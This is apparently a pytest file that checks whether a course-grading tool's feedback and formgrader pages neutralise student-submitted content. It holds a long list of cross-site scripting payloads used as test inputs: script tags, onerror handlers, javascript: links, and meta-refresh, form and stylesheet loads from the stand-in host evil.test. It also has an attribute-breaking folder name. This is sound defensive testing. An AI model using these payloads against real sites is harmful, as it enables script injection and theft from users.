"""The pages that a submission is read in: nothing of a student's runs there, and nothing is loaded.

Every vector says its own name in what it would run or load, so that one page shows all of them.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
import nbgrader
import pytest
from elements import Elements
from nbconvert.exporters import HTMLExporter
from tiny import LESSON_ID, SECOND, solved
from traitlets.config import Config

from course.grading.classes.temporary import Classroom
from course.grading.cycle.pages import POLICY, FeedbackExporter, closed

pytestmark = pytest.mark.usefixtures("warm_judge")

#: In prose. NAME becomes the vector's name; it must still stand somewhere on the page.
PROSE = {
    "script": "<script>alert('NAME')</script>",
    "script_in_capitals": "<SCRIPT SRC='https://evil.test/NAME.js'></SCRIPT>",
    "handler": "<img src=x onerror=\"alert('NAME')\">",
    "handler_on_an_unclosed_tag": "<svg/onload=alert('NAME')//",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>' title='NAME'></iframe>",
    "style": "<style>@import 'https://evil.test/NAME.css';</style>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.test/NAME'>",
    "base": "<base href='https://evil.test/NAME/'>",
    "form": "<form action='https://evil.test/NAME'><button>Go</button></form>",
    "stylesheet": "<link rel='stylesheet' href='https://evil.test/NAME.css'>",
    "closing_tags": "</div></body><script>alert('NAME')</script>",
    "comment": "<!--><script>alert('NAME')</script>-->",
    "in_a_heading": "# <img src=x onerror=alert('NAME')>",
    "in_a_table": "| a |\n| - |\n| <img src=x onerror=alert('NAME')> |",
    "in_mermaid": "```mermaid\n<img src=x onerror=alert('NAME')>\n```",
    "entities_in_mermaid": "```mermaid\n&lt;img src=x onerror=alert('NAME')&gt;\n```",
    "in_a_language": "```\"><img/src=x/onerror=alert('NAME')>\nNAME\n```",
    "in_a_formula": "$<img src=x onerror=alert('NAME')>$",
    "formula_link": r"$\href{javascript:alert('NAME')}{x}$",
    "link": "[click](javascript:alert('NAME'))",
    "link_in_brackets": "[click](<javascript:alert('NAME')>)",
    "link_by_entity": "[click](&#106;avascript:alert('NAME'))",
    "link_by_reference": "[click][r1]\n\n[r1]: javascript:alert('NAME')",
    "link_with_a_title": "[click](https://a.test '\" onmouseover=\"alert(&quot;NAME&quot;)')",
    "link_to_data": "[click](data:text/html;base64,NAME)",
    "autolink": "<javascript:alert('NAME')>",
    "page_beside_it": "[click](NAME.html)",
    "page_above_it": "[click](../NAME.png)",
    "picture": "![x](https://evil.test/NAME.png)",
    "picture_without_scheme": "![x](//evil.test/NAME.png)",
    "picture_by_reference": "![x][r2]\n\n[r2]: https://evil.test/NAME.png",
    "picture_by_its_name": "![r3]\n\n[r3]: https://evil.test/NAME.png",
    "picture_in_a_link": "[![x](https://evil.test/NAME.png)](https://a.test)",
    "picture_after_a_picture": "![a[b](attachment:there.png)](https://evil.test/NAME.png)",
    "picture_behind_a_bracket": "![a\\](attachment:there.png)](https://evil.test/NAME.png)",
    "picture_behind_code": "![a`](attachment:there.png)`](https://evil.test/NAME.png)",
    "picture_behind_a_formula": "![a$](attachment:there.png)$](https://evil.test/NAME.png)",
    "picture_over_a_line": "![x](\nhttps://evil.test/NAME.png)",
    "escaped_twice": "\\![x](https://evil.test/NAME.png)",
    "picture_of_a_page": "![x](/logout/NAME)",
    "attachment_that_is_missing": "![NAME](attachment:nowhere.png)",
    "attachment_that_is_empty": "![NAME](attachment:empty.png)",
    "attachment_that_is_drawn": "![NAME](attachment:drawn.svg)",
    "handler_in_a_picture": "![\" onerror=\"alert('NAME')](attachment:there.png)",
}

#: In what a cell of code shows.
SHOWN = {
    "html": "display(HTML(\"<script>alert('NAME')</script>\")); print('NAME')",
    "javascript": "display(Javascript(\"alert('NAME')\"))",
    "drawing": 'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="a(1)"/>\')) #NAME',
    "markdown": "display(Markdown('![NAME](https://evil.test/NAME.png)'))",
    "latex": r"display(Latex(r'$\href{javascript:alert(1)}{NAME}$<script>1</script>'))",
    "printed": "print(\"<script>alert('NAME')</script>\")",
    "coloured": "print('\\x1b[31m<img src=x onerror=alert(\"NAME\")>\\x1b[0m')",
    "error": "raise ValueError(\"<img src=x onerror=alert('NAME')>\")",
    "error_class": "raise type('<img/src=x/onerror=alert()>', (Exception,), {})('NAME')",
    "picture_that_is_none": "display({'image/png': '\" onerror=\"alert(1)'}, raw=True) #NAME",
    "source": "# <script>alert('NAME')</script></pre></div><img src=x onerror=alert('NAME')>",
}
VECTORS = {**PROSE, **SHOWN}
PNG = "iVBORw0KGgoAAAANSUhEUg=="
ATTACHED = {
    "there.png": {"image/png": PNG},
    "empty.png": {},
    "drawn.svg": {"image/svg+xml": "PHN2Zz4="},
}
#: A folder's name, to break out of an attribute and out of text.
EVIL_NAME = "\" onclick=alert('v_name_v') x=\"<img src=x onerror=alert('v_name_v')>"
IMPORTS = "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
#: What loads something, or opens it without being asked.
LOADS = ("src", "srcset", "srcdoc", "poster", "data", "background", "action", "formaction", "style")
NEVER = {"iframe", "object", "embed", "form", "base", "link", "svg", "frame", "template"}


def own_cell(name: str, source: str) -> dict[str, Any]:
    prose = name in PROSE
    cell: dict[str, Any] = {"id": f"own_{name}", "metadata": {}}
    if prose:
        cell |= {"cell_type": "markdown", "attachments": ATTACHED}
    else:
        cell |= {"cell_type": "code", "outputs": [], "execution_count": None}
    return cell | {"source": ("" if prose else IMPORTS) + source.replace("NAME", f"v_{name}_v")}


@pytest.fixture(scope="module")
def room(new_class: Callable[..., Classroom]) -> Classroom:
    """One submission with every vector, graded and with its feedback."""
    room = new_class("pages")
    notebook = solved(room)
    notebook["cells"] += [own_cell(name, source) for name, source in VECTORS.items()]
    beside = own_cell("picture", "![mine](mine.png) ![kept](attachment:there.png) [t](notes.txt)")
    notebook["cells"].append({**beside, "id": "harmless"})
    answer = next(cell for cell in notebook["cells"] if cell["id"] == "why")
    answer["source"] = "As drawn: ![by hand](attachment:Zeichnung für Übung [1].png)"
    answer["attachments"] = {"Zeichnung für Übung [1].png": {"image/png": PNG}}
    path = room.hand_in("ann", json.dumps(notebook))
    path.with_name("mine.png").write_bytes(b"picture")
    assert room.autograde() == []
    room.generate_feedback()
    return room


@pytest.fixture(scope="module")
def feedback(room: Classroom) -> Elements:
    return Elements(room.feedback_page("ann").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def formgrader(room: Classroom) -> Elements:
    """The page that an instructor grades on, made as formgrader makes it."""
    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    config = Config(room.config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(templates)]
    about = {"index": 0, "total": 1, "base_url": "", "student": EVIL_NAME}
    about |= {"last_name": None, "first_name": None, "submission_id": "1"}
    about |= {"notebook_path": f"autograded/{EVIL_NAME}"}
    about |= {"assignment_id": LESSON_ID, "notebook_id": "decoder_cells"}
    exporter = HTMLExporter(config=config)
    page, _ = exporter.from_filename(str(room.graded_notebook("ann")), resources=about)
    return Elements(page)


def dangers(page: Elements, mark: str) -> list[tuple[str, str, str]]:
    """List what would run, load or open something where it says a vector's name."""
    found = [(tag, name, value) for tag, name, value in page.attributes() if mark in value]
    bad = [(tag, name, value) for tag, name, value in found if name in LOADS or name[:2] == "on"]
    for tag, name, value in found:
        odd = not re.match(r"https?://|#|attachment:", value)
        if name in ("href", "xlink:href") and (tag != "a" or odd):
            bad.append((tag, name, value))
        if tag == "meta":
            bad.append((tag, name, value))
    return bad + [(tag, "", text) for tag, text in page.inside if mark in text]


@pytest.mark.parametrize("name", VECTORS)
def test_it_does_nothing_in_the_feedback_page(feedback: Elements, name: str) -> None:
    assert dangers(feedback, f"v_{name}_v") == []


@pytest.mark.parametrize("name", VECTORS)
def test_it_does_nothing_on_the_page_that_formgrader_shows(formgrader: Elements, name: str) -> None:
    assert dangers(formgrader, f"v_{name}_v") == []


def test_a_name_does_nothing_on_the_page_that_formgrader_shows(formgrader: Elements) -> None:
    assert dangers(formgrader, "v_name_v") == []
    assert EVIL_NAME in formgrader.text


@pytest.mark.parametrize("name", VECTORS)
def test_it_is_still_there_to_be_read(feedback: Elements, name: str) -> None:
    values = " ".join(value for _, _, value in feedback.attributes())
    assert f"v_{name}_v" in feedback.text + values


def test_no_element_that_a_page_of_text_and_pictures_does_not_need(feedback: Elements) -> None:
    assert {tag for tag, _ in feedback.seen} & (NEVER | {"script"}) == set()
    assert [found for found in feedback.attributes() if found[1].startswith("on")] == []


def test_the_page_itself_loads_nothing(feedback: Elements) -> None:
    loaded = [value for _, name, value in feedback.attributes() if name in LOADS]
    assert [value[:40] for value in loaded if "//" in value[:20]] == []
    styles = " ".join(text for tag, text in feedback.inside if tag == "style")
    assert styles
    assert re.findall(r"@import|url\(\s*['\"]?(?!data:)[^)]*", styles) == []


def test_the_policy_stands_before_all_else_in_the_head(feedback: Elements) -> None:
    assert [tag for tag, _ in feedback.seen[:2]] == ["html", "head"]
    assert feedback.seen[2] == (
        "meta",
        {"http-equiv": "Content-Security-Policy", "content": POLICY},
    )
    assert "script" not in POLICY
    assert "http" not in POLICY


def claims(page: str) -> str:
    return page.partition('id="toc"')[2].partition("</section>")[0]


def test_the_table_calls_each_test_by_its_claim_and_leads_to_it(room: Classroom) -> None:
    page = room.feedback_page("ann").read_text(encoding="utf-8")
    linked = dict(re.findall(r'<a href="#([^"]*)">([^<]*)</a>', claims(page)))
    assert linked["every_number_is_doubled"] == "Every number is doubled."
    assert linked["why"] == "Answer in words: why"
    assert len(set(linked.values())) == len(linked)
    for name in linked:
        assert page.count(f'id="{name}"') == 1


@pytest.fixture(scope="module")
def wrong(new_class: Callable[..., Classroom]) -> str:
    """The page of a notebook with a mistake and a formula, for which nobody gave points yet."""
    room = new_class("wrong")
    total = SECOND.replace("start + ", "")
    why = (
        r"As $x_t = \begin{pmatrix}1\\2\end{pmatrix}$ and \n\n$$\text{<b>bold</b>}$$ $\class{a}{x}$"
    )
    room.hand_in("bob", json.dumps(solved(room, write_total=total, why=why)))
    room.autograde()
    room.generate_feedback()
    return room.feedback_page("bob").read_text(encoding="utf-8")


def test_points_are_split_and_what_a_person_gives_is_not_counted_as_missing(wrong: str) -> None:
    text = " ".join(wrong.split())
    assert "<b>4 of 5 points</b> · up to 3 points more by a person" in text


def test_what_fails_stands_first_with_the_reason_and_the_notebook_is_folded(wrong: str) -> None:
    rows = re.findall(r'<tr class="(\w+)"', claims(wrong))
    assert rows == ["some", "waits", "full", "full"]
    assert re.search(r"The sum counts from the start\.</a><details open(=\"\")?>", claims(wrong))
    assert wrong.index('id="toc"') < wrong.index("What you wrote")
    assert wrong.index("What you wrote") < wrong.index('<details class="notebook">')


#: By the cell's name: kind, whether it is graded, a solution, a task, and its points.
COMMENTED = {
    "tested function": ("code", False, True, False, 0),
    "function read by a person": ("code", True, True, False, 2),
    "answer in words": ("markdown", True, True, False, 2),
    "answer for no points": ("markdown", True, True, False, 0),
    "answer that is not graded": ("markdown", False, True, False, 0),
    "task": ("markdown", False, False, True, 2),
    "task for no points": ("markdown", False, False, True, 0),
}


def test_what_a_person_says_of_any_cell_is_on_the_page_once() -> None:
    cells = []
    for name, (kind, grade, solution, task, points) in COMMENTED.items():
        marks = {"grade": grade, "solution": solution, "task": task, "points": points, "score": 0}
        marks |= {"grade_id": name.replace(" ", "_"), "comment": f"Of **{name}**: look again."}
        cell = {
            "cell_type": kind,
            "id": name.replace(" ", "_"),
            "source": "def fold(x):\n    return x" if kind == "code" else "x",
            "metadata": {"nbgrader": marks},
        }
        cells.append(cell | ({"outputs": [], "execution_count": None} if kind == "code" else {}))
    page, _ = FeedbackExporter().from_notebook_node(nbformat_of(*cells))
    for name in COMMENTED:
        assert page.count(f"Of <strong>{name}</strong>: look again.") == 1, name
    assert "Of <strong>task</strong>" in claims(page)
    assert "Task: task" in claims(page)
    assert "<code>fold</code>, read by a person" in claims(page)


def test_formulas_are_drawn_and_hold_nothing_but_a_formula(wrong: str) -> None:
    answer = wrong.partition("What you wrote")[2]
    assert "<msub><mi>x</mi><mi>t</mi></msub>" in answer
    assert answer.count("<mtr>") == 4  # once with the answers, once in the notebook
    assert re.search(r"<mtext>&lt;.b&gt;bold&lt;./b&gt;</mtext>", answer)
    assert 'class="a"' not in wrong


@pytest.mark.parametrize("alt", ["mine", "kept", "by hand"])
@pytest.mark.parametrize("page", ["feedback", "formgrader"])
def test_a_students_own_pictures_are_in_the_page(
    request: pytest.FixtureRequest, page: str, alt: str
) -> None:
    seen = request.getfixturevalue(page).seen
    sources = {one["src"] for tag, one in seen if tag == "img" and one["alt"] == alt}
    assert {source.partition(",")[0] for source in sources} == {"data:image/png;base64"}


def test_an_answers_pictures_are_in_the_graded_copy(room: Classroom) -> None:
    cells = json.loads(room.graded_notebook("ann").read_text("utf-8"))["cells"]
    [answer] = [cell for cell in cells if "As drawn" in "".join(cell["source"])]
    assert answer["metadata"]["nbgrader"]["grade_id"] == "why"
    assert list(answer["attachments"].values()) == [{"image/png": PNG}]


def test_an_answers_pictures_are_seen_among_the_answers_and_in_the_notebook() -> None:
    marks = {"grade": True, "solution": True, "task": False, "points": 2, "grade_id": "why"}
    cell = {
        "cell_type": "markdown",
        "id": "a",
        "source": "![mine](attachment:picture-1.png)",
        "metadata": {"nbgrader": marks},
        "attachments": {"picture-1.png": {"image/png": PNG}},
    }
    page, _ = FeedbackExporter().from_notebook_node(nbformat_of(cell))
    assert page.count(f'<img alt="mine" src="data:image/png;base64,{PNG}"') == 2
    assert "attachment:" not in page


def test_what_was_handed_in_is_left_as_it_was(room: Classroom) -> None:
    handed_in = room.folder / "submitted" / "ann" / LESSON_ID / "decoder_cells.ipynb"
    cells = {cell["id"]: cell for cell in json.loads(handed_in.read_text("utf-8"))["cells"]}
    assert cells["own_script"] == own_cell("script", PROSE["script"])


def test_prose_that_cannot_be_rendered_is_shown_as_text() -> None:
    cell = {"cell_type": "markdown", "id": "a", "metadata": {}, "source": "![b&](attachment:c)"}
    page, _ = FeedbackExporter().from_notebook_node(nbformat_of(cell | {"attachments": {}}))
    assert "<pre>![b&amp;](attachment:c)</pre>" in page


def nbformat_of(*cells: dict[str, Any]) -> Any:
    return nbformat.from_dict(
        {"cells": [*cells], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    )


def test_a_template_without_a_head_is_refused() -> None:
    with pytest.raises(ValueError, match="no <head>"):
        closed("<html><body></body></html>")
